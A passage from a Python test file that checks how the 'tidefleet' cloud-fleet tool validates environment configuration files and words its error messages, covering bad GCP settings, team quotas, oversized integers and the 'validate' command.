    ("pool max beyond a regional MIG", {"pools.cpu.max": 2001}, "pools.cpu.max: 2001 nodes of weight 1 is over the 2000 of a regional managed instance group (got 2001)"),
    ("bucket name with google in it", {"name": "google-ml"}, "name: the Cloud Storage bucket name 'tidefleet-google-ml-artifacts-acme-ml-dev' is not lowercase a-z, 0-9, '_.-', without 'google' (got environment name 'google-ml'); change the environment name"),
    ("long project and environment overflow the bucket", {"name": "team-research", "project": "acme-machine-learning-research"}, "name: the Cloud Storage bucket name 'tidefleet-team-research-artifacts-acme-machine-learning-research' is 64 characters; GCP allows 3-63 (got environment name 'team-research'); shorten the environment name by 1 character"),
    ("pool name ending with a hyphen", {"pools.cpu-": GCP_BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "cpu-"}, "pools.cpu-: the managed instance group name 'tidefleet-gcp-dev-cpu-' is not lowercase a-z, 0-9 and '-', starting with a letter and not ending with '-' (got pool name 'cpu-'); change the pool name"),
    ("long pool name overflows the VM base name", {"pools.batch-inference-cpu-pool": GCP_BASE["pools"]["cpu"], "pools.cpu": None, "queues.default.pool": "batch-inference-cpu-pool", "name": "research-team-dev-east"}, "pools.batch-inference-cpu-pool: the MIG base instance name 'tidefleet-research-team-dev-east-batch-inference-cpu-pool-od' is 60 characters; GCP allows 1-58 (got pool name 'batch-inference-cpu-pool'); shorten the pool name or the environment name by 2 characters"),
    ("tag key in uppercase", {"tags": {"Owner": "ml"}}, "tags.Owner: not a GCP label key (got 'Owner')"),
    ("tag value with a space", {"tags": {"owner": "ml dev"}}, "tags.owner: not a GCP label value (got 'ml dev')"),
    ("tag value over 63 characters", {"tags": {"owner": "v" * 64}}, f"tags.owner: not a GCP label value (got '{'v' * 64}')"),
    ("tag key tidefleet's labels use", {"tags": {"tidefleet-env": "x"}}, "tags.tidefleet-env: reserved tag key (got 'tidefleet-env')"),
    ("accelerator type with a space", {"pools.gpu.instance_types": [{"type": "g2-standard-8", "weight": 1, "gpus": 1, "accelerator": "NVIDIA L4"}]}, "pools.gpu.instance_types[0].accelerator: not a GCP accelerator type (got 'NVIDIA L4')"),
    ("image with a trailing newline", {"pools.cpu.image": "projects/debian-cloud/global/images/family/debian-12\n"}, "pools.cpu.image: not a GCE image (got 'projects/debian-cloud/global/images/family/debian-12\\n')"),
    ("s3:// data on gcp", {"pools.cpu.data": {"read": ["s3://team/data/"]}}, "pools.cpu.data.read[0]: not a gs:// location (got 's3://team/data/')"),
    ("efa on gcp", {"pools.cpu.efa": True, "pools.cpu.placement": "cluster"}, "pools.cpu.efa: needs cloud 'aws' and placement 'cluster' (got cloud 'gcp', placement 'cluster')"),
    ("filestore too small", {"shared_fs": {"kind": "filestore", "size_gb": 100}, "pools.cpu.data": {"shared_fs_mount": "/mnt/x"}}, "shared_fs.size_gb: a regional Filestore instance is 1024-102400 GiB (got 100)"),
    ("filestore on a configured subnet", {"shared_fs": {"kind": "filestore", "size_gb": 1024}, "pools.cpu.data": {"shared_fs_mount": "/mnt/x"}, "network.subnet_ids": ["nodes"]}, "shared_fs: Filestore joins the network the stack creates"),
    ("an N1 GPU count GCE refuses", {"pools.gpu.instance_types": [{"type": "n1-standard-8", "weight": 3, "gpus": 3, "accelerator": "nvidia-tesla-t4", "on_demand_price": 1.2, "spot_price": 0.4}]}, "pools.gpu.instance_types[0].gpus: an N1 machine type takes 1, 2 or 4 nvidia-tesla-t4 (got 3); GCE refuses another count, so pick one of these"),
    ("fewer gpus than a G2 type has", {"pools.gpu.instance_types": [{"type": "g2-standard-24", "weight": 1, "gpus": 1, "accelerator": "nvidia-l4", "on_demand_price": 2.0, "spot_price": 0.8}]}, "pools.gpu.instance_types[0].gpus: g2-standard-24 has 2 GPUs (got 1); GCE refuses a template that attaches fewer than the type's own; set gpus = 2 (slots_per_item takes several per item)"),
    ("fewer gpus than an A3 type has", {"pools.gpu.instance_types": [{"type": "a3-highgpu-8g", "weight": 1, "gpus": 1, "accelerator": "nvidia-h100-80gb", "on_demand_price": 88.0, "spot_price": 30.0}]}, "pools.gpu.instance_types[0].gpus: a3-highgpu-8g has 8 GPUs (got 1)"),
    ("a boot disk below GCE's images", {"pools.cpu.disk_gb": 8}, "pools.cpu.disk_gb: GCE's public images take 10 GB at least, and a boot disk smaller than its image is refused (got 8); set disk_gb = 10 or more"),
    ("a subnetwork of another region", {"network.subnet_ids": ["projects/other-proj/regions/europe-west4/subnetworks/nodes"]}, "network.subnet_ids[0]: a subnetwork of europe-west4, but the environment's instance groups are in us-central1 and take their own region's only (got 'projects/other-proj/regions/europe-west4/subnetworks/nodes'); use one of us-central1"),
    ("two subnetworks", {"network.subnet_ids": ["nodes", "more-nodes"]}, "network.subnet_ids: a GCE instance template has one subnetwork, the first would be used and the others never (got ['nodes', 'more-nodes']); list one"),
    ("cluster placement on a configured subnet", {"pools.cpu.placement": "cluster", "network.subnet_ids": ["nodes"]}, "pools.cpu.placement: 'cluster' opens traffic among the pool's nodes on the network the stack creates"),
    ("rate that does not divide a day", {"schedules.merge": {"rate": "10 hours", "queue": "default", "items": ["x"]}}, "schedules.merge.rate: on gcp a rate must divide a day evenly (got '10 hours'); use e.g. '6 hours' or a cron"),
    ("quota for a team no queue has", {"teams.vision": {"quota": {"nodes": 2}}}, "teams.vision: no queue runs items of team 'vision' (teams of queues: ml, research); set queues.<name>.team or pools.<name>.team"),
    ("pool quota on a pool the team does not use", {"teams.ml": {"pools": {"gpu": {"gpus": 4}}}}, "teams.ml.pools.gpu: team 'ml' runs no queue on this pool (got 'gpu'); its pools: cpu"),
    ("vcpu quota on a pool counting nodes", {"teams.ml": {"quota": {"vcpus": 8}}}, "teams.ml.quota.vcpus: pool cpu counts nodes, not vCPUs (got vcpus = 8); set its capacity_unit = 'vcpus'"),
    ("negative gpu quota", {"teams.ml": {"quota": {"gpus": -1}}}, "teams.ml.quota.gpus: Input should be greater than or equal to 0 (got -1)"),
    ("misspelt quota key", {"teams.ml": {"quota": {"gpu": 4}}}, "teams.ml.quota.gpu: unknown key"),
    ("team weight of zero", {"teams.ml": {"weight": 0}}, "teams.ml.weight: Input should be greater than or equal to 1 (got 0)"),
    ("a GPU quota of 0 with no quota of another team to borrow", {"teams.research": {"quota": {"gpus": 0}}}, "teams.research.quota.gpus: 0 leaves the team's queues on pool gpu (train) no slot, and no other team there has a quota to lend them one, so they never run; raise it to at least 1 (one slot), give another team on the pool a quota, or remove the limit"),
    ("a pool quota below one slot's price beside a team without a table", {"queues.batch": {"pool": "cpu", "team": "ops"}, "teams.ml": {"pools": {"cpu": {"usd_per_hour": 0.02}}}}, "teams.ml.pools.cpu.usd_per_hour: 0.02 leaves the team's queues on pool cpu (default) no slot, and no other team there has a quota to lend them one, so they never run; raise it to at least 0.03 (one slot)"),
    ("tick that does not divide an hour", {"scaler.tick_s": 2040}, "scaler.tick_s: above 60 it must be a whole number of minutes that divides an hour, as the scheduler fires on minutes (got 2040); use e.g. 300"),
    ("pool without an image", {"pools.cpu.image": None}, "pools.cpu.image: required on gcp (got nothing); set a GCE image such as projects/debian-cloud/global/images/family/debian-12"),
    ("a spot price cap on gcp", {"pools.cpu.spot_max_price": 1.0}, "pools.cpu.spot_max_price: not read on gcp, where a Spot VM has no price cap or allocation strategy (got 1.0); remove it"),
    ("a zone of another region", {"pools.cpu.zone": "europe-west4-a"}, "pools.cpu.zone: not a zone of the environment's region us-central1 (got 'europe-west4-a'); write us-central1-<letter>, e.g. us-central1-b"),
    ("a region as the zone", {"pools.cpu.zone": "us-central1"}, "pools.cpu.zone: not a zone of the environment's region us-central1 (got 'us-central1')"),
    ("zones on gcp", {"network.az_count": 3}, "network.az_count: not read on gcp (got 3); a regional managed instance group spreads over the region's zones itself; remove it"),
    ("s3 state on gcp", {"state": {"backend": "s3", "bucket": "acme-state"}}, "state.backend: not available on gcp (got 's3'); use 'local' or 'gcs'"),
    ("a region for gcs state", {"state": {"backend": "gcs", "bucket": "acme-state", "region": "us-central1"}}, "state.region: not read by backend 'gcs' (got 'us-central1'); remove it, or use backend 's3'"),
    ("queue named like the kick topic", {"queues.kick": {"pool": "cpu"}}, "queues.kick: the Pub/Sub topic name 'tidefleet-gcp-dev-kick' is also the stack's own; rename 'kick'"),
    ("pools whose groups share a name", {"pools.cpu-od": GCP_BASE["pools"]["cpu"]}, "the managed instance group name 'tidefleet-gcp-dev-cpu-od' is also pools."),
]
CASES = [(case, "dev", change, expected) for case, change, expected in BAD] + [
    (f"gcp: {case}", "gcp-dev", change, expected) for case, change, expected in GCP_BAD
]


def test_the_table_covers_at_least_sixty_mistakes():
    assert len(CASES) >= 60 and len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case,base,change,expected", CASES, ids=[c[0] for c in CASES])
def test_bad_config_names_field_value_and_rule(case, base, change, expected):
    data = _with({"dev": BASE, "gcp-dev": GCP_BASE}[base], **change)
    with pytest.raises(ConfigError) as err:
        parse_environment(data, name=data.get("name", base))
    problems = err.value.problems
    assert any(expected in p for p in problems), f"{expected!r} not in {problems}"
    assert len(problems) == 1, f"one problem, one message: {problems}"


def test_several_problems_are_all_reported_at_once():
    with pytest.raises(ConfigError) as err:
        parse_environment(_with(**{"pools.cpu.max": "ten", "queues.default.priority": -1, "regoin": "x"}), name="dev")
    assert len(err.value.problems) == 3


def test_duplicate_table_in_toml_is_a_clear_error(tmp_path):
    text = (ROOT / "dev.toml").read_text() + '\n[queues.default]\npool = "cpu"\n'
    (tmp_path / "dup.toml").write_text(text)
    with pytest.raises(ConfigError) as err:
        load_environment("dup", tmp_path)
    assert "duplicate names are not allowed" in err.value.problems[0]


def test_a_field_of_several_types_is_named_as_the_file_spells_it():
    """nodes_per_item is a number or a {min, max} table: a table's mistakes are its keys', not
    a line saying it is not a number, and no pydantic branch name (`.int`, `.NodesRange`) shows."""
    with pytest.raises(ConfigError) as err:
        parse_environment(_with(**{"queues.default.nodes_per_item": {"min": 1, "maxx": 2}}), name="dev")
    assert err.value.problems == [
        "queues.default.nodes_per_item.max: required field is missing",
        "queues.default.nodes_per_item.maxx: unknown key; did you mean 'max'? (got 2)",
    ]


def test_a_toml_mistake_gets_the_duplicate_hint_only_when_a_name_is_declared_twice(tmp_path):
    (tmp_path / "typo.toml").write_text('name = "typo"\nregion = us-east-1\n')
    with pytest.raises(ConfigError) as err:
        load_environment("typo", tmp_path)
    assert "not valid TOML" in err.value.problems[0] and "duplicate" not in err.value.problems[0]


def test_a_byte_order_mark_is_read_and_a_missing_path_is_named(tmp_path):
    (tmp_path / "bom.toml").write_bytes(b"\xef\xbb\xbf" + (ROOT / "dev.toml").read_bytes().replace(b'"dev"', b'"bom"', 1))
    assert load_environment("bom", tmp_path).name == "bom"
    with pytest.raises(ConfigError) as err:
        load_environment(str(tmp_path / "nope.toml"))
    assert err.value.problems == [f"env: no such file (got '{tmp_path / 'nope.toml'}'); give the path of an environment .toml file"]


@pytest.mark.parametrize(
    ("case", "change"),
    [
        ("a quota of 0 beside a team whose idle quota it borrows",
         {"queues.batch": {"pool": "cpu", "team": "ops"}, "teams.ml": {"quota": {"nodes": 0}},
          "teams.ops": {"quota": {"nodes": 1}}}),
        ("a GPU quota of 0 binds no CPU pool", {"teams.ml": {"quota": {"gpus": 0}}}),
    ],
)  # fmt: skip
def test_a_quota_of_no_slot_is_valid_where_its_team_can_borrow_or_it_binds_nothing(case, change):
    assert parse_environment(_with(**change), name="dev").teams["ml"].quota.limits() == change["teams.ml"]["quota"]


def test_a_team_name_follows_the_name_rule():
    with pytest.raises(ConfigError) as err:
        parse_environment(_with(**{"teams.Bad Team": {"weight": 2}}), name="dev")
    assert "teams.Bad Team: bad name (got 'Bad Team'); must start with a letter" in err.value.problems[0]


def test_unknown_environment_lists_known_ones():
    with pytest.raises(ConfigError) as err:
        load_environment("staging", ROOT)
    assert "unknown environment (got 'staging'); known: " in err.value.problems[0]
    assert "dev, " in err.value.problems[0] and "prod" in err.value.problems[0]


def test_file_name_and_declared_name_must_agree():
    with pytest.raises(ConfigError) as err:
        parse_environment({**BASE, "name": "prod"}, name="dev")
    assert "name: must match the file name" in err.value.problems[0]


def test_validate_command_exits_non_zero_on_bad_file(tmp_path):
    from click.testing import CliRunner

    from tidefleet.cli import main

    (tmp_path / "bad.toml").write_text('region = "mars-1"\n')
    result = CliRunner().invoke(main, ["validate", str(tmp_path / "bad.toml")])
    assert result.exit_code == 1
    assert "pools: required field is missing" in result.output


HUGE = "1" + "0" * 5000  # past Python's 4300-digit limit on reading an integer


def _huge_file(tmp_path: Path, old: str, new: str, name: str = "huge-int") -> Path:
    text = (ROOT / "dev.toml").read_text()
    assert old in text
    path = tmp_path / f"{name}.toml"
    path.write_text(text.replace(old, new, 1))
    return path


@pytest.mark.parametrize(("old", "new", "field"), [
    ("max = 10\n", f"max = {HUGE}\n", "pools.cpu.max"),
    ('{ type = "c7i.large", weight = 1 }', f'{{ type = "c7i.large", weight = -{HUGE} }}', "pools.cpu.instance_types[1].weight"),
    ("item_timeout_s = 1800\n", f"item_timeout_s = {HUGE[:2]}_{HUGE[2:]}\n", "queues.default.item_timeout_s"),
], ids=["pool max", "in an inline table, negative", "with an underscore"])  # fmt: skip
def test_an_integer_too_long_to_read_is_one_line_naming_the_file_and_field(tmp_path, old, new, field):
    """TOML integers have no size limit, but Python reads at most 4300 digits: tomllib raised
    ValueError (not TOMLDecodeError), a traceback in `tidefleet validate` and every command."""
    path = _huge_file(tmp_path, old, new)
    with pytest.raises(ConfigError) as err:
        load_environment(str(path))
    (problem,) = err.value.problems
    assert problem.startswith(f"{field}: a whole number of 5001 digits, too long to read (got ")
    assert problem.endswith("); no setting takes a number this large: use the value you meant (see the config "
                            "reference in README.md)")  # fmt: skip
    assert len(problem) < 300 and str(err.value).startswith(f"{path}: {field}: ")


def test_a_long_number_in_a_string_is_not_taken_for_the_one_too_long_to_read(tmp_path):
    path = _huge_file(tmp_path, 'cost-center = "ml-dev"\n', f'cost-center = "{HUGE}"\nowner = {HUGE}\n')
    with pytest.raises(ConfigError) as err:
        load_environment(str(path))
    assert [p.split(":")[0] for p in err.value.problems] == ["tags.owner"]


def test_validate_names_the_file_and_field_of_an_integer_too_long_to_read(tmp_path):
    import json
    import subprocess
    import sys

    path = _huge_file(tmp_path, "max = 10\n", f"max = {HUGE}\n")
    for args in ([], ["--json"]):
        done = subprocess.run([sys.executable, "-m", "tidefleet.cli", "validate", *args, str(path)], capture_output=True,
                              text=True, timeout=60, check=False)  # fmt: skip
        assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
        line = (json.loads(done.stdout)["environments"][0]["error"] if args else done.stderr).strip()
        assert "\n" not in line and line.startswith(f"{path}: pools.cpu.max: a whole number of 5001 digits"), line


def test_an_integer_too_long_to_read_in_a_file_that_is_not_toml_either_names_its_line(tmp_path):
    path = tmp_path / "broken.toml"
    path.write_text(f'cloud = "aws"\nregion = "us-east-1"\nx = {HUGE}\ny = [\n')
    with pytest.raises(ConfigError) as err:
        load_environment(str(path))
    assert err.value.problems == [("broken.toml: a whole number of more than 4300 digits (line 3), too long to read; "
                                   "no setting takes a number this large: use the value you meant (see the config "
                                   "reference in README.md)")]  # fmt: skip


def test_a_pool_of_max_0_that_no_queue_uses_is_accepted():
    env = parse_environment(_with(**{"pools.spare": {**BASE["pools"]["cpu"], "max": 0}}), name="dev")
    assert env.pools["spare"].max == 0


def test_validate_refuses_a_pool_of_max_0_with_a_queue(tmp_path):
    import subprocess
    import sys

    path = tmp_path / "zero-max.toml"
    path.write_text((ROOT / "dev.toml").read_text().replace("max = 10\n", "max = 0\n", 1))
    done = subprocess.run([sys.executable, "-m", "tidefleet.cli", "validate", str(path)], capture_output=True, text=True,
                          timeout=60, check=False)  # fmt: skip
    assert done.returncode == 1 and done.stdout == "", done.stdout
    assert done.stderr == (f"{path}: pools.cpu.max: 0 launches no node, so the items of queue 'default' can never run "
                           "(got 0); raise max to at least 1 (one c6i.large node) or move the queue to another pool\n")
